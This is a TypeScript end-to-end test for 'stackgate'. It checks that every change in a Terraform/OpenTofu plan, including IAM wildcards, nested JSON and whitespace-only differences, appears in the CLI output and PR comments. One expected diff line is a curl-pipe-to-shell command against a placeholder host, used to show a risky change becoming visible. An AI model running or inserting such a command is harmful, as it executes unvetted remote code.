/**
 * Issue 26, items 1 and 9, on the built bundles with real Terraform and real OpenTofu (1.11.14,
 * scripts/engines.mjs; skipped loudly where it is not built, a failure under
 * STACKGATE_REQUIRE_ENGINES=1): every change that used to hide behind two equal 240-character
 * prefixes is on the page — in the CLI's output, its comment file and the Action's PR comment
 * (GitHub stand-in) — and addresses that differ only in whitespace read differently. The project
 * (test/fixtures/render/shapes.tf) is applied with `v2 = false`, then previewed with `v2 = true`.
 * The same proof on real Pulumi: test/e2e/diff-visible-pulumi.test.ts.
 */
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { commentMarker } from "../../src/report/marker.js";
import { startGitHubApi, type GitHubApiStandIn } from "../support/github-api.js";
import { pullRequestEvent, writeEvent } from "../support/github-api-events.js";
import { createJob, runStep, type RunnerJob } from "../support/github-api-runner.js";
import { writeEmptyCliConfig } from "../support/terraform-project.js";
import { runCli } from "../support/cli.js";
import { engineDir, skipWithoutEngines } from "../support/engines.js";

/** Each engine the proof runs on: how the CLI (environment) and the Action (inputs) select it. */
interface EngineCase {
  name: string;
  /** How the comment names the engine and its version (proof that this engine made the plan). */
  label: string;
  skip: boolean;
  env: () => Record<string, string>;
  inputs: () => Record<string, string>;
  /** The pull request its Action run comments on. */
  pull: number;
}

const tofuBinary = (): string => path.join(engineDir("tofu"), "tofu");
const ENGINE_CASES: EngineCase[] = [
  {
    name: "terraform",
    label: "Terraform 1.11.",
    skip: false,
    env: () => ({}),
    inputs: () => ({}),
    pull: 26,
  },
  {
    name: "tofu",
    label: "OpenTofu 1.11.14",
    skip: skipWithoutEngines("diff-visible on OpenTofu (test/e2e/diff-visible.test.ts)", "tofu"),
    env: () => ({ STACKGATE_ENGINE: "tofu", STACKGATE_ENGINE_BINARY: tofuBinary() }),
    inputs: () => ({ engine: "tofu", "engine-binary": tofuBinary() }),
    pull: 126,
  },
];

const SHAPES = fileURLToPath(new URL("../fixtures/render/shapes.tf", import.meta.url));

/** What must be on the page, one line each (the diff of the fixture's v1 → v2). */
const EXPECTED_LINES = [
  // The IAM wildcard inside a ~400-character jsonencode policy.
  '+ input (JSON) Statement[0].Resource[4] = "arn:aws:s3:::*"',
  // JSON inside JSON.
  '~ input (JSON) policy (JSON) Statement[0].Effect = "Deny" -> "Allow"',
  // A heredoc-like multi-line string: the changed line with its context.
  "-      echo nothing to install",
  "+      curl -s https://example.invalid/install.sh | sh",
  "       echo step 19 of the deployment script",
  // A list whose change is past any cut: aligned, at its index.
  '+ input[40] = "item-number-40-ADDED"',
  // A renamed map key (inside a JSON string): both keys.
  '- input (JSON) admin-group = "members-all"',
  '+ input (JSON) admin-group-renamed = "members-all"',
  // A whitespace-only change at the end of a 418-character line, marked.
  '-      …"word55·word56·word57·word58·word59·tail·end"',
  '+      …"word55·word56·word57·word58·word59·tail··end"',
];

let root: string;
let tfrc: string;
let api: GitHubApiStandIn;
const jobs: RunnerJob[] = [];

beforeAll(async () => {
  root = mkdtempSync(path.join(os.tmpdir(), "stackgate-diff-visible-"));
  tfrc = writeEmptyCliConfig(path.join(root, "terraformrc"));
  api = await startGitHubApi();
});
afterAll(async () => {
  await api.close();
  for (const j of jobs) rmSync(path.dirname(j.workspace), { recursive: true, force: true });
  rmSync(root, { recursive: true, force: true });
});
afterEach(() => expect(api.violations()).toEqual([]));

const cliEnv = (engine: EngineCase): Record<string, string> => ({
  PATH: process.env.PATH ?? "",
  HOME: root,
  TF_CLI_CONFIG_FILE: tfrc,
  TF_IN_AUTOMATION: "1",
  CHECKPOINT_DISABLE: "1",
  ...engine.env(),
});

/** `dir/infra` with the fixture, applied at v1 through the CLI. */
async function appliedProject(engine: EngineCase, dir: string): Promise<void> {
  mkdirSync(path.join(dir, "infra"), { recursive: true });
  cpSync(SHAPES, path.join(dir, "infra", "main.tf"));
  const up = await runCli(["up", "-C", "infra", "--yes"], { cwd: dir, env: cliEnv(engine) });
  expect(up.exitCode, up.stdout + up.stderr).toBe(0);
}

function expectEveryChange(text: string): void {
  const lines = text.split("\n");
  // Every line that is not on the page, at once: a failure names each hidden change.
  expect(EXPECTED_LINES.filter((line) => !lines.includes(line))).toEqual([]);
  expect(text).toContain("whitespace-only change: · is a space");
  // Never two equal cut prefixes of a value.
  expect(text).not.toMatch(/…" -> "/);
}

for (const engine of ENGINE_CASES) {
  describe.skipIf(engine.skip)(
    `every change is on the page on ${engine.name} (issue 26, item 1)`,
    () => {
      it("CLI: the output prints every diff, the comment file shows them", async () => {
        const dir = mkdtempSync(path.join(root, "cli-"));
        await appliedProject(engine, dir);
        const preview = await runCli(
          ["preview", "-C", "infra", "--comment-file", "c.md", "--var", "v2=true"],
          { cwd: dir, env: cliEnv(engine) },
        );
        expect(preview.exitCode, preview.stdout + preview.stderr).toBe(0);
        expectEveryChange(preview.stdout);
        const comment = readFileSync(path.join(dir, "c.md"), "utf8");
        expect(comment).toContain(engine.label);
        expectEveryChange(comment);
        // Computed noise is counted, not listed; addresses that differ only in spaces differ.
        expect(comment).toContain(
          '| ➕ create | `terraform_data.key["a  b"]` (spaces marked: `terraform_data.key["a··b"]`) | input · 2 known after apply |',
        );
        expect(comment).toContain('- 🗑️ **delete** `terraform_data.key["a b"]`\n');
        expect(comment).toContain('# terraform_data.key["a  b"]: create\n');
      });

      it("a comment too small for the diff says so in bold and where to read it", async () => {
        const dir = mkdtempSync(path.join(root, "small-"));
        await appliedProject(engine, dir);
        const preview = await runCli(
          [
            "preview",
            "-C",
            "infra",
            "--comment-file",
            "c.md",
            "--var",
            "v2=true",
            "--comment-limit",
            "2500",
          ],
          { cwd: dir, env: cliEnv(engine) },
        );
        expect(preview.exitCode, preview.stdout + preview.stderr).toBe(0);
        const comment = readFileSync(path.join(dir, "c.md"), "utf8");
        expect(comment.length).toBeLessThanOrEqual(2500);
        expect(comment).toMatch(
          /\*\*The diff does not fit this comment: \d of 8 resources shown whole\. Read every change in the output of `stackgate preview`\.\*\*/,
        );
        expectEveryChange(preview.stdout);
      });

      it("Action: the PR comment (GitHub stand-in) and the step's log", async () => {
        const n = engine.pull;
        api.addPull({ number: n, headSha: "1a".repeat(20) });
        const j = createJob({
          apiUrl: api.url,
          token: api.token,
          repository: `${api.owner}/${api.repo}`,
          eventName: "pull_request",
          eventPath: writeEvent(pullRequestEvent({ number: n, headSha: "1a".repeat(20) })),
          sha: "9e".repeat(20),
          env: { TF_CLI_CONFIG_FILE: tfrc, TF_VAR_v2: "true", ...engine.env() },
        });
        jobs.push(j);
        await appliedProject(engine, j.workspace);
        // The stack the project was applied as: one stack is one state (a second stack name on this
        // state is refused).
        const main = await runStep(j, "main", {
          workdir: "infra",
          stack: "default",
          ...engine.inputs(),
        });
        expect(main.exitCode, main.stdout).toBe(0);
        const key = { project: "infra", stack: "default", workdir: "infra" };
        const ours = api.comments(n).filter((c) => c.body.startsWith(commentMarker(key)));
        expect(ours).toHaveLength(1);
        expect(ours[0]?.body).toContain(engine.label);
        expectEveryChange(ours[0]?.body ?? "");
        expect(ours[0]?.body).toContain('`terraform_data.key["a  b"]` (spaces marked:');
        expectEveryChange(main.summary);
        expectEveryChange(main.stdout);
      });
    },
  );
}
